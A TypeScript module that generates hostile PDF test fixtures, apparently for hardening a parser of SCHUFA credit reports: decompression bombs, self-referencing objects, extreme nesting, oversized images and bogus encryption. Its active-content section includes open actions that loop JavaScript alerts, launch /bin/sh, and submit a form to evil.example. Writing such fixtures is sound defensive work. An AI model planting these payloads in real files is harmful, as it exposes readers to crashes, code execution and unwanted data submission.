// Hostile PDF files: bombs, loops, lies about sizes, active content, broken fonts. Each is made on demand; names say what is wrong.
import { deflateSync } from 'node:zlib'
import {
  bomb,
  FONT,
  onePage,
  packed,
  page,
  PAGES,
  pdfOf,
  ROOT,
  stream,
  textContent,
} from './pdf.ts'

export type Hostile = { name: string; make: () => Uint8Array | Promise<Uint8Array> }

const MEGABYTE = 1024 * 1024
const many = (n: number, each: (i: number) => string) =>
  Array.from({ length: n }, (_, i) => each(i))
const deep = (open: string, close: string, n: number) => open.repeat(n) + close.repeat(n)
const image = (dictionary: string, data: string | Uint8Array) =>
  stream(`/Type /XObject /Subtype /Image ${dictionary}`, data)
const withImage = (dictionary: string, data: string | Uint8Array) =>
  onePage(
    'q 500 0 0 700 40 40 cm /I Do Q',
    [image(dictionary, data)],
    '',
    '/XObject << /I 6 0 R >>',
  )
const GREY = '/ColorSpace /DeviceGray /BitsPerComponent 8'
const form = (content: string, resources: string) =>
  stream(`/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << ${resources} >>`, content)

const STREAMS: Hostile[] = [
  {
    name: 'content of one gigabyte of spaces',
    make: () => onePage(stream('/Filter /FlateDecode', bomb(' '.repeat(MEGABYTE), 1024))),
  },
  {
    name: 'packed twice, one gigabyte',
    make: () =>
      onePage(
        stream(
          '/Filter [/FlateDecode /FlateDecode]',
          deflateSync(bomb(' '.repeat(MEGABYTE), 1024)),
        ),
      ),
  },
  {
    name: '400 MB of operators',
    make: () => onePage(stream('/Filter /FlateDecode', bomb('q Q '.repeat(MEGABYTE / 4), 400))),
  },
  {
    name: '100 MB of text operators',
    make: () =>
      onePage(
        stream(
          '/Filter /FlateDecode',
          bomb('BT /F 8 Tf 40 800 Td (Erika Mustermann) Tj ET\n'.repeat(21_000), 100),
        ),
      ),
  },
  {
    name: 'path of 50 million lines',
    make: () => onePage(stream('/Filter /FlateDecode', bomb('1 1 m 9 9 l S '.repeat(75_000), 660))),
  },
  {
    name: 'a thousand filters',
    make: () => onePage(stream(`/Filter [${'/FlateDecode '.repeat(1000)}]`, deflateSync('q Q'))),
  },
  {
    name: 'run length bomb',
    make: () =>
      onePage(
        stream(
          '/Filter [/FlateDecode /RunLengthDecode]',
          bomb(Buffer.from([129, 32]).toString('latin1').repeat(500_000), 16),
        ),
      ),
  },
  {
    name: 'stream longer than the file',
    make: () => onePage(stream('', 'BT /F 8 Tf (x) Tj ET', 2_000_000_000)),
  },
  { name: 'inline image without end', make: () => onePage('BI /W 9 /H 9 /BPC 8 /CS /G ID abc') },
  {
    name: 'a hundred thousand saved states',
    make: () => onePage(packed('q '.repeat(1_000_000))),
  },
]

const TREES: Hostile[] = [
  {
    name: 'page tree that holds itself',
    make: () => pdfOf([ROOT, '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
  },
  {
    name: 'page tree of two that hold each other',
    make: () =>
      pdfOf([
        ROOT,
        '<< /Type /Pages /Kids [3 0 R] /Count 5 >>',
        '<< /Type /Pages /Kids [2 0 R] /Count 5 >>',
      ]),
  },
  {
    name: 'page tree 20,000 deep',
    make: () =>
      pdfOf([
        ROOT,
        ...many(20_000, (i) => `<< /Type /Pages /Kids [${i + 3} 0 R] /Count 1 >>`),
        '<< /Type /Page /MediaBox [0 0 595 842] >>',
      ]),
  },
  ...['-1', '0', '1000000000', '2147483648', '(x)'].map((count) => ({
    name: `count of pages ${count}`,
    make: () =>
      pdfOf([
        ROOT,
        `<< /Type /Pages /Kids [3 0 R] /Count ${count} >>`,
        page(),
        stream('', ''),
        FONT,
      ]),
  })),
  {
    name: 'one page a hundred thousand times',
    make: () =>
      pdfOf([
        ROOT,
        `<< /Type /Pages /Kids [${'3 0 R '.repeat(100_000)}] /Count 1 >>`,
        page(),
        stream('', ''),
        FONT,
      ]),
  },
  {
    name: 'three hundred thousand objects',
    make: () =>
      pdfOf([
        ROOT,
        PAGES,
        page(),
        stream('', textContent(['SCHUFA'])),
        FONT,
        ...many(300_000, (i) => `${i}`),
      ]),
  },
  {
    name: 'arrays 1,000,000 deep',
    make: () => onePage('', [deep('[', ']', 1_000_000)], '/X 6 0 R'),
  },
  {
    name: 'arrays 1,000,000 deep in the page itself',
    make: () => onePage('', [], `/X ${deep('[', ']', 1_000_000)}`),
  },
  {
    name: 'dictionaries 200,000 deep',
    make: () => onePage('', [], `/X ${deep('<</A ', '>>', 200_000)}`),
  },
  {
    name: 'arrays 1,000,000 deep in the content',
    make: () => onePage(packed(`${deep('[', ']', 1_000_000)} TJ`)),
  },
  {
    name: 'objects that point at each other',
    make: () => onePage('', ['7 0 R', '6 0 R'], '/Rotate 6 0 R'),
  },
  {
    name: 'table of places that goes in a circle',
    make: () => {
      const good = onePage(textContent(['SCHUFA'])).toString('latin1')
      const at = good.lastIndexOf('xref\n0')
      return Buffer.from(good.replace('/Root 1 0 R', `/Root 1 0 R /Prev ${at}`), 'latin1')
    },
  },
  {
    name: 'object stream that extends itself',
    make: () =>
      pdfOf([
        ROOT,
        PAGES,
        page(),
        stream('', ''),
        FONT,
        stream('/Type /ObjStm /N 1 /First 4 /Extends 6 0 R', '6 0 <</A 6 0 R>>'),
      ]),
  },
  {
    name: 'object stream of a billion objects',
    make: () =>
      pdfOf([
        ROOT,
        PAGES,
        page(),
        stream('', ''),
        FONT,
        stream('/Type /ObjStm /N 1000000000 /First 4', '6 0 '),
      ]),
  },
  {
    name: 'no table of places and no root',
    make: () => Buffer.from('%PDF-1.7\n1 0 obj\n<</A 1>>\nendobj\ntrailer\n<<>>\n%%EOF\n'),
  },
]

const GRAPHICS: Hostile[] = [
  ...[
    '[0 0 1000000000 1000000000]',
    '[0 0 -5 -5]',
    '[0 0 0 0]',
    '[0 0 0.0001 0.0001]',
    '[(a) (b)]',
    '[0 0 595]',
    '[0 0 1e308 1e308]',
  ].map((box) => ({
    name: `page box ${box}`,
    make: () => onePage(textContent(['SCHUFA Holding AG']), [], `/MediaBox ${box}`),
  })),
  {
    name: 'huge page that is a picture',
    make: () =>
      onePage('0 0 9e8 9e8 re f', [], '/MediaBox [0 0 900000000 900000000] /UserUnit 75000'),
  },
  {
    name: 'form that draws itself',
    make: () =>
      onePage('/X Do', [form('/X Do', '/XObject << /X 6 0 R >>')], '', '/XObject << /X 6 0 R >>'),
  },
  {
    name: 'a billion laughs of forms',
    make: () =>
      onePage(
        '/X Do',
        many(10, (i) =>
          form('/X Do '.repeat(10), `/XObject << /X ${i + 7} 0 R >>`).toString('latin1'),
        ).concat(form('0 0 9 9 re f', '').toString('latin1')),
        '',
        '/XObject << /X 6 0 R >>',
      ),
  },
  {
    name: 'pattern that fills itself',
    make: () =>
      onePage(
        '/Pattern cs /P scn 0 0 500 500 re f',
        [
          stream(
            '/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001 /Resources << /Pattern << /P 6 0 R >> >>',
            '/Pattern cs /P scn 0 0 1 1 re f',
          ),
        ],
        '',
        '/Pattern << /P 6 0 R >>',
      ),
  },
  {
    name: 'picture of 60,000 by 60,000, one bit',
    make: () =>
      withImage(
        '/Width 60000 /Height 60000 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /FlateDecode',
        bomb('\0'.repeat(MEGABYTE), 430),
      ),
  },
  {
    name: 'picture just under the cap, 59 megapixels of colour',
    make: () =>
      withImage(
        '/Width 7700 /Height 7700 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode',
        bomb('\0'.repeat(MEGABYTE), 170),
      ),
  },
  {
    name: 'two hundred pictures of 25 megapixels',
    make: () =>
      onePage(
        'q 500 0 0 700 40 40 cm /I Do /I Do Q '.repeat(100),
        [
          image(
            `/Width 5000 /Height 5000 ${GREY} /Filter /FlateDecode`,
            bomb('\0'.repeat(MEGABYTE), 24),
          ),
        ],
        '',
        '/XObject << /I 6 0 R >>',
      ),
  },
  ...[
    'JBIG2Decode',
    'JPXDecode',
    'DCTDecode',
    'CCITTFaxDecode',
    'LZWDecode',
    'ASCII85Decode',
    'NoSuchDecode',
  ].map((filter) => ({
    name: `picture of rubbish, ${filter}`,
    make: () =>
      withImage(
        `/Width 9000 /Height 6000 ${GREY} /Filter /${filter}`,
        '\x97JB2\xff\xd8\xff\x4f\xff\x51'.repeat(999),
      ),
  })),
  {
    name: 'picture with negative size',
    make: () => withImage(`/Width -5 /Height 100000 ${GREY}`, 'x'),
  },
  {
    name: 'soft mask of itself',
    make: () => withImage(`/Width 9 /Height 9 ${GREY} /SMask 6 0 R`, 'x'.repeat(81)),
  },
  {
    name: 'colour space that names itself',
    make: () =>
      onePage(
        '/C cs 1 sc 0 0 9 9 re f',
        ['[/Indexed 6 0 R 255 (x)]'],
        '',
        '/ColorSpace << /C 6 0 R >>',
      ),
  },
  {
    name: 'shading by a function with two thousand million samples',
    make: () =>
      onePage(
        '/S sh',
        [
          '<< /ShadingType 1 /ColorSpace /DeviceGray /Function 7 0 R >>',
          stream(
            '/FunctionType 0 /Domain [0 1 0 1] /Range [0 1] /Size [46340 46340] /BitsPerSample 32',
            'x',
          ),
        ],
        '',
        '/Shading << /S 6 0 R >>',
      ),
  },
]

const FONTS: Hostile[] = [
  {
    name: 'glyph that draws itself',
    make: () =>
      onePage(
        'BT /T 12 Tf (aaaa) Tj ET',
        [
          '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 7 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [9] /Resources << /Font << /T 6 0 R >> >> >>',
          stream('', '9 0 d0 BT /T 12 Tf (a) Tj ET'),
        ],
        '',
        '/Font << /T 6 0 R >>',
      ),
  },
  {
    name: 'font that descends from itself',
    make: () =>
      onePage(
        'BT /T 12 Tf <0001> Tj ET',
        [
          '<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [6 0 R] >>',
        ],
        '',
        '/Font << /T 6 0 R >>',
      ),
  },
  {
    name: 'map of four thousand million characters',
    make: () =>
      onePage(
        'BT /T 12 Tf (aaaa) Tj ET',
        [
          '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 7 0 R >>',
          stream(
            '',
            'begincmap 1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange 1 beginbfrange <00000000> <FFFFFFFF> <0000> endbfrange endcmap',
          ),
        ],
        '',
        '/Font << /T 6 0 R >>',
      ),
  },
  {
    name: 'font file of rubbish',
    make: () =>
      onePage(
        'BT /T 12 Tf (SCHUFA) Tj ET',
        [
          '<< /Type /Font /Subtype /TrueType /BaseFont /X /FirstChar 0 /LastChar 255 /FontDescriptor 7 0 R >>',
          '<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 8 0 R >>',
          stream('', '\0\x01\0\0\xff\xff\0\0'.repeat(5000)),
        ],
        '',
        '/Font << /T 6 0 R >>',
      ),
  },
]

const ACTIVE: Hostile[] = [
  ['script on opening', '/OpenAction << /S /JavaScript /JS (for(;;){app.alert(1)}) >>'],
  ['program on opening', '/OpenAction << /S /Launch /F (/bin/sh) >>'],
  ['address on opening', '/OpenAction << /S /URI /URI (http://evil.example/) >>'],
  [
    'form that sends itself',
    '/AcroForm << /XFA (<x/>) /Fields [] >> /OpenAction << /S /SubmitForm /F (http://evil.example/) >>',
  ],
].map(([name = '', catalog = '']) => ({
  name,
  make: () =>
    pdfOf([
      `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
      PAGES,
      page(),
      stream('', textContent(['SCHUFA'])),
      FONT,
    ]),
}))

const LOCKED: Hostile[] = [
  '/Encrypt << /Filter /Standard /V 99 /R 99 /O (x) /U (x) /P -1 >>',
  '/Encrypt << /Filter /Unknown /V 1 >>',
  '/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /O (12345678901234567890123456789012) /U (12345678901234567890123456789012) /P -1 >> /ID [(a) (b)]',
  '/Encrypt 1 0 R',
].map((trailer, i) => ({
  name: `locked in a way that does not exist, ${i + 1}`,
  make: () => pdfOf([ROOT, PAGES, page(), stream('', textContent(['SCHUFA'])), FONT], trailer),
}))

const HEAD = ['SCHUFA Holding AG', 'Datenkopie nach Art. 15 DS-GVO', 'SCHUFA-Score', 'Basisscore']
const WORDS: Hostile[] = (
  [
    ['dates', '01.01.2024 '],
    ['dots', '1.1.1.1.1.1.1.1.'],
    ['euros', '1.234.567,89 EUR '],
    ['labels', 'SCHUFA-Score gespeichert am erledigt am gemeldet am Saldo '],
    ['brackets', '((((((((((('],
    ['spaces and dashes', '- - - - - '],
    ['percent', '98,2 % 97,53 Prozent '],
  ] as const
).flatMap(([name, text]) => [
  {
    name: `one page of nothing but ${name}`,
    make: () => onePage(packed(textContent([...HEAD, ...many(300, () => text.repeat(12))], 2))),
  },
  {
    name: `forty pages of nothing but ${name}`,
    make: () => {
      const content = packed(textContent([...HEAD, ...many(250, () => text.repeat(6))], 3))
      const kids = many(40, (i) => `${i + 5} 0 R`)
      return pdfOf([
        ROOT,
        `<< /Type /Pages /Kids [${kids.join(' ')}] /Count 40 >>`,
        FONT,
        content,
        ...kids.map(
          () =>
            '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F 3 0 R >> >> >>',
        ),
      ])
    },
  },
])
const LONG_WORDS: Hostile[] = ['1', 'a', '.', '(', ' 1', 'ä', '1,'].map((char) => ({
  name: `one word of a million “${char}”`,
  make: () => onePage(packed(textContent([...HEAD, char.repeat(1_000_000)]))),
}))

export const HOSTILE_PDFS: readonly Hostile[] = [
  ...STREAMS,
  ...TREES,
  ...GRAPHICS,
  ...FONTS,
  ...ACTIVE,
  ...LOCKED,
  ...WORDS,
  ...LONG_WORDS,
]
